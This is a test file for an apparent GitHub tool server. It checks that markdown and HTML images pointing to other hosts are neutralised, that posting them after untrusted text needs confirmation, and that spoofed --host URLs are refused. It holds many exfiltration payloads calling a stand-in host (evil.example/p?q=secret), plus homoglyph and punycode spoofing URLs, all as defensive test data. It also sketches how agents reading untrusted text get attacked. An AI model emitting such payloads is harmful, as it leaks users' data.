import { describe, expect, onTestFinished, test } from 'vitest';
import { hostOf } from '../src/api/host.ts';
import { foreignImages } from '../src/present/images.ts';
import { readBack, writeOut } from '../src/present/written-out.ts';
import { startDouble } from './double/index.ts';
import { newComment } from './double/world/issues.ts';
import { start } from './start.ts';

const foreign = [
  '![x](https://evil.example/p?q=secret)',
  '![](  <https://evil.example/p>)',
  '![x](//evil.example/p)',
  '![x](data:image/png;base64,AAAA)',
  '![x](https://github.com.evil.example/p)',
  '![x](https://evil.example/github.com/p)',
  '![x][ref]\n\n[ref]: https://evil.example/p',
  '<img src="https://evil.example/p">',
  "<IMG\nwidth=1 src='https://evil.example/p'>",
  '<video poster=https://evil.example/p>',
  '<source srcset="https://evil.example/p 2x">',
  '![x]\n\n[x]: https://evil.example/p',
  '![x](not an address [x]\n\n> [x]:\n> https://evil.example/p',
  '![[x]](https://evil.example/p)',
  '![a[b]c](https://evil.example/p)',
  String.raw`![a\]](https://evil.example/p)`,
  '![a`[`](https://evil.example/p)',
  String.raw`![x](/\evil.example/p)`,
  String.raw`![x](https\://evil.example/p)`,
  '![x](&#104;ttps://evil.example/p)',
  '![x](https&colon;//evil.example/p)',
  '![x](https://github.com@evil.example/p)',
  '<img alt="a>b" src="https://evil.example/p">',
  '<img alt="src=https://github.com/a" src="https://evil.example/p">',
  '<img data-src="https://github.com/a" src="https://evil.example/p">',
  '<img srcset="https://github.com/a 1x, https://evil.example/p 2x">',
  '<img src="ht\ntps://evil.example/p">',
  '<img src="https://evil.example/p',
  '<input type=image src=https://evil.example/p>',
  '<svg><use xlink:href="https://evil.example/p#a"/></svg>',
  '<div style="background:url(https://evil.example/p)">',
  String.raw`<p style="background:\75rl(https://evil.example/p)">`,
  `<p style="background-image:image-set('https://evil.example/p' 1x)">`,
  '<p style="background:image-set(&quot;https://evil.example/p&quot; 1x)">',
  '<table background=https://evil.example/p>',
  '<style>@import "https://evil.example/p"</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/p">',
  '<iframe srcdoc="x">',
];
const own = [
  '![x](https://github.com/octo/garden/assets/1/2.png)',
  '![x](https://private-user-images.githubusercontent.com/1/2.png)',
  '![x](docs/plan.png)',
  '<img src="docs/plan.png">',
  'a ! b < c, [link](https://evil.example/p)',
  '[![x](https://github.com/octo/garden/badge.svg)](https://evil.example/p)',
  '<a href="https://evil.example/p"><img alt="Note: a" src=/docs/plan.png></a>',
  `<p style="font-family:'Liberation Sans'">x: 1</p>`,
  '<p style="background:url(https://github.com/a.png?b=1&amp;c=2)">x</p>',
  '<details><summary>More: 1 > 0</summary><b>x</b></details>',
  'vec![1, 2] and `println!("a")`',
];

describe('images on other hosts', () => {
  test.each(foreign)('%s is written so that nothing loads it, and written back unchanged', (text) => {
    expect(writeOut(text)).toMatch(/⟦[!<]⟧/);
    expect(readBack(writeOut(text))).toBe(text);
    // Before it is written, the user is asked.
    expect(foreignImages(text)).toHaveLength(1);
  });

  test.each([...own, 'already ⟦!⟧ and ⟦<⟧ and ⟦U+200B⟧'])('%s is read back unchanged', (text) => {
    expect(foreignImages(text)).toEqual([]);
    expect(readBack(writeOut(text))).toBe(text);
  });

  test.each(own)('%s stays as it is', (text) => expect(writeOut(text)).toBe(text));

  const image = '![x](https://evil.example/p?q=secret)';
  const garden = { owner: 'octo', repo: 'garden' };

  test('in a comment nothing loads it; in a file it stays', async () => {
    const double = await startDouble();
    onTestFinished(() => double.close());
    const { state } = double;
    const issue = state.repository('octo', 'garden')?.issues.find(({ number }) => number === 1);
    if (issue === undefined) throw new Error('The sample world has changed.');
    newComment(state, issue, state.user('stranger') ?? null, `Look: ${image}`);
    const session = await start(double.url, { token: double.token });
    const { text } = await session.call('issue_read', { ...garden, issue_number: 1, method: 'get_comments' });
    expect(text).toContain('⟦!⟧[x](https://evil.example/p?q=secret)');
    expect(text).not.toContain(image);

    // What was read can be written, after the question: a stranger's text came before it.
    const body = 'Look: ⟦!⟧[x](https://evil.example/p?q=secret)';
    const refused = await session.call('add_issue_comment', { ...garden, issue_number: 1, body });
    expect(refused).toMatchObject({ isError: true, code: 'denied' });
    expect(refused.text).toMatch(/image of another host, "https:\/\/evil\.example\/p\?q=secret"/);
    const confirm = /confirm: "([^]+)"\.$/.exec(refused.text)?.[1];
    const args = { ...garden, issue_number: 1, body, confirm };
    expect(await session.call('add_issue_comment', args)).toMatchObject({ isError: false });
    expect(issue.comments).toHaveLength(3 + 1);
    expect(issue.comments.at(-1)?.body).toBe(`Look: ${image}`);
  });

  test('control: without text by others before it, an image is posted unasked', async () => {
    const double = await startDouble();
    onTestFinished(() => double.close());
    const session = await start(double.url, { token: double.token });
    expect(await session.call('add_issue_comment', { ...garden, issue_number: 1, body: image })).toMatchObject({
      isError: false,
    });
    const issue = double.state.repository('octo', 'garden')?.issues.find(({ number }) => number === 1);
    expect(issue?.comments.at(-1)?.body).toBe(image);
  });
});

describe('--host', () => {
  test.each([
    'https://gith\u00fcb.com',
    'https://g\u0456thub.com',
    'https://github.com@evil.example',
    'https://:secret@github.example.com',
    'https://github.example.com\\@evil.example',
    'https://github.com.evil.example',
    'https://api.github.com.evil.example',
    'https://github.com:8443',
    'https://github.example.com./',
    'https://github.example.com/somewhere',
    'https://github.example.com?x',
    'https://github.example.com#x',
    'https://2130706433',
    'https://0x7f.1',
    'http://github.example.com',
    'ftp://github.example.com',
    // The xn-- forms of names with і, ս, ɡ, ʋ, ь, ï, е and a Greek letter that look like those of GitHub.
    'https://xn--gthub-n2e.com',
    'https://xn--githb-bjg.com',
    'https://xn--ithub-qmc.com',
    'https://xn--githb-1tc.com',
    'https://xn--githu-10e.com',
    'https://xn--gthub-cta.example',
    'https://octo.xn--gh-olc.com',
    'https://xn--ithub-j69a.com',
    'github.example.com',
    ' https://github.example.com',
  ])('refuses %s', (given) => expect(() => hostOf(given)).toThrow(/^--host /));

  test.each([
    ['https://github.com', 'https://api.github.com'],
    ['https://api.github.com/', 'https://api.github.com'],
    ['https://octo.ghe.com', 'https://api.octo.ghe.com'],
    ['https://github.example.com:8443', 'https://github.example.com:8443/api/v3'],
    ['https://github.example.com/api/v3', 'https://github.example.com/api/v3'],
    ['https://git.xn--bcher-kva.example', 'https://git.xn--bcher-kva.example/api/v3'],
    ['https://xn--80ak6aa92e.com', 'https://xn--80ak6aa92e.com/api/v3'],
    ['http://127.0.0.1:3000', 'http://127.0.0.1:3000/api/v3'],
  ])('reads %s', (given, rest) => expect(hostOf(given).rest).toBe(rest));
});
